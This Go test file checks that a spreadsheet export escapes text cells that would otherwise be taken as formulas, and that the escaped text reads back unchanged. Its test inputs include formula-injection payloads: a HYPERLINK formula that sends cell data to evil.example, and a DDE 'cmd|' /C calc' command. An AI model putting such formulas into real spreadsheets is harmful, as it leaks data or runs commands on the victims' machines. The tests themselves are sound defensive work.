package excel

import (
	"bytes"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// TestExportEscapesFormulaText: every text cell that a spreadsheet would
// take for a formula is written with a leading apostrophe, as text; number
// cells (a negative amount or count) are not touched; and the escaping
// reads back to the original text.
func TestExportEscapesFormulaText(t *testing.T) {
	cols := []Column{
		{Key: "text", Header: "文本", Kind: Text},
		{Key: "kind", Header: "类型", Kind: Enum, Enum: []EnumValue{{Code: "a", Label: "甲"}}},
		{Key: "amount", Header: "金额", Kind: Money, AllowNegative: true},
		{Key: "n", Header: "数量", Kind: Int, AllowNegative: true},
	}
	texts := []struct{ in, cell string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"点击")`, `'=HYPERLINK("http://evil.example/?d="&A1,"点击")`},
		{"+1+1", "'+1+1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},   // full-width, as an input method types it
		{"'=1+1", "''=1+1"}, // an apostrophe of its own is kept through the round trip
		{"O'Brien", "O'Brien"},
		{"张=三", "张=三"},
		{"1-2", "1-2"},
		{"'quoted'", "'quoted'"},
	}
	var rows [][]any
	for _, tc := range texts {
		rows = append(rows, []any{tc.in, nil, nil, nil})
	}
	rows = append(rows,
		[]any{stringer("=1+2"), "=cmd", int64(-12345), -7}, // a Stringer; an unknown enum code; negative numbers
		[]any{int64(-5), "a", nil, nil},                    // an integer written as text
	)
	var buf bytes.Buffer
	_, err := Export(&buf, "注入", cols, sliceIter(rows))
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	require.NoError(t, err)
	defer f.Close()
	value := func(cell string) string {
		v, err := f.GetCellValue("注入", cell, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		return v
	}
	for i, tc := range texts {
		cell, err := excelize.CoordinatesToCellName(1, i+2)
		require.NoError(t, err)
		assert.Equal(t, tc.cell, value(cell), "%q", tc.in)
		formula, err := f.GetCellFormula("注入", cell)
		require.NoError(t, err)
		assert.Empty(t, formula)
	}
	r := len(texts) + 2
	cell := func(col int) string {
		c, err := excelize.CoordinatesToCellName(col, r)
		require.NoError(t, err)
		return c
	}
	assert.Equal(t, "'=1+2", value(cell(1)))
	assert.Equal(t, "'=cmd", value(cell(2)))
	assert.Equal(t, "-123.45", value(cell(3)), "a negative amount stays a number")
	assert.Equal(t, "-7", value(cell(4)), "a negative count stays a number")
	for _, c := range []string{cell(3), cell(4)} {
		typ, err := f.GetCellType("注入", c)
		require.NoError(t, err)
		assert.Contains(t, []excelize.CellType{excelize.CellTypeUnset, excelize.CellTypeNumber}, typ, c)
	}
	r++
	assert.Equal(t, "'-5", value(cell(1)), "a text cell is escaped whatever it holds")

	// read back: the text as it was
	tpl := Template{Name: "注入", Columns: cols}
	rep, recs := collect(t, buf.Bytes(), tpl, Options{})
	require.Len(t, rep.Errors, 1, "%+v", rep.Errors)
	assert.Equal(t, "kind", rep.Errors[0].Field, "only the unknown enum code (=cmd) is refused")
	assert.Contains(t, rep.Errors[0].Message, "“=cmd”", "reported as it was, without the apostrophe")
	require.Len(t, recs, len(texts)+1)
	for i, tc := range texts {
		want := tc.in
		if i == 4 || i == 5 {
			want = "=1+1" // leading tab and CR are trimmed like any leading space
		}
		assert.Equal(t, want, recs[i].Text("text"), "%q", tc.in)
	}
	assert.Equal(t, "-5", recs[len(texts)].Text("text"))
}

func TestEscapeFormulaRoundTrip(t *testing.T) {
	for _, s := range []string{"", "'", "''", "=", "'=", "''=", "x", "'x", "-", "-1", "＠", "'＠", "a'=b", "\t", "@'"} {
		assert.Equal(t, s, UnescapeFormula(EscapeFormula(s)), "%q", s)
		assert.False(t, startsFormula(EscapeFormula(s)), "%q is escaped", s)
	}
}
